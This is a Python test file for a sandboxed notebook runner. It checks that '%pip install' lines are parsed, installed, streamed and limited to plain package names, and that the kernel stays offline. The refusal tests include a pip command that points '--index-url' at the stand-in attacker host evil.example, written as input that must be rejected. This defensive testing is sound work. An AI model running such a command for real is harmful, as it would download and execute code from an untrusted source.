"""`%pip install` in a Python run goes to the backend's `install` (real pip from the registry, in the
local backend's confined install step), its output streams into the run, and the kernel's own
network stays closed afterwards. alice owns `alice_session` (tests/fixtures_runs.py).
"""

from __future__ import annotations

import pytest
from django.test import AsyncClient

from runner.models import Execution
from runner.services.packages import pip_magics, pip_packages
from tests.fixtures_runs import receive_until_finished, run, stdout_of
from tests.fixtures_sandboxes import local_backend_or_skip

pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.timeout(240)]

# Tries to reach the package index from the kernel itself; prints how that ended.
NETWORK_PROBE = """
import socket
try:
    socket.create_connection(("pypi.org", 443), timeout=5).close()
    print("network: open")
except OSError as exc:
    print("network: closed", type(exc).__name__)
"""


def test_pip_lines_are_found_and_the_rest_of_the_code_kept() -> None:
    code = "%pip install humanize\nimport humanize\n!pip install -q tabulate==0.9.0 six  # both\nprint(1)"
    installs, rest = pip_magics(code)
    assert installs == ["humanize", "-q tabulate==0.9.0 six  # both"]
    assert rest == "\nimport humanize\n\nprint(1)"
    assert [pip_packages(args) for args in installs] == [["humanize"], ["tabulate==0.9.0", "six"]]
    assert pip_magics("x = 1  # %pip install nothing")[0] == []


@pytest.mark.parametrize("args", ["--index-url http://evil.example/ x", "-r requirements.txt", "./local",
                                  "https://example.com/x.whl", "git+https://example.com/x", "", "'unclosed"])
def test_anything_but_package_names_is_refused(args: str) -> None:
    with pytest.raises(ValueError):
        pip_packages(args)


async def test_pip_install_streams_then_the_package_imports_and_the_kernel_stays_offline(
    connect, alice, alice_session
) -> None:
    local_backend_or_skip()
    ws = await connect(alice, alice_session)
    await ws.receive_json_from(timeout=30)  # hello
    execution_id = await run(ws, "%pip install humanize==4.11.0\nimport humanize\nprint(humanize.intcomma(1234567))")
    frames = await receive_until_finished(ws, execution_id)
    finished = frames[-1]
    assert finished["status"] == "succeeded", frames
    stdout_frames = [f for f in frames if f["type"] == "execution.output" and f["kind"] == "stdout"]
    text = stdout_of(frames)
    assert text.startswith("Installing humanize==4.11.0…\n")
    assert "Successfully installed humanize-4.11.0" in text
    assert text.endswith("1,234,567\n")
    assert len(stdout_frames) >= 2, "the installer's output streams as it comes"

    probe = await run(ws, NETWORK_PROBE)
    probe_frames = await receive_until_finished(ws, probe)
    assert stdout_of(probe_frames).startswith("network: closed"), probe_frames

    client = AsyncClient()
    await client.aforce_login(alice)
    listed = (await client.get(f"/sessions/{alice_session.id}/packages/")).json()
    assert {"name": "humanize", "version": "4.11.0"} in listed["packages"]


async def test_a_bad_package_name_is_a_clear_error_and_installs_nothing(connect, alice, alice_session) -> None:
    local_backend_or_skip()
    ws = await connect(alice, alice_session)
    await ws.receive_json_from(timeout=30)
    execution_id = await run(ws, "!pip install --index-url http://evil.example/simple humanize\nprint('after')")
    frames = await receive_until_finished(ws, execution_id)
    assert frames[-1]["status"] == "failed"
    [error] = [f for f in frames if f["type"] == "execution.output" and f["kind"] == "error"]
    assert error["data"]["ename"] == "InstallError" and "--index-url" in error["data"]["evalue"]
    assert "after" not in stdout_of(frames)
    run_row = await Execution.objects.aget(pk=execution_id)
    assert run_row.error_name == "InstallError"
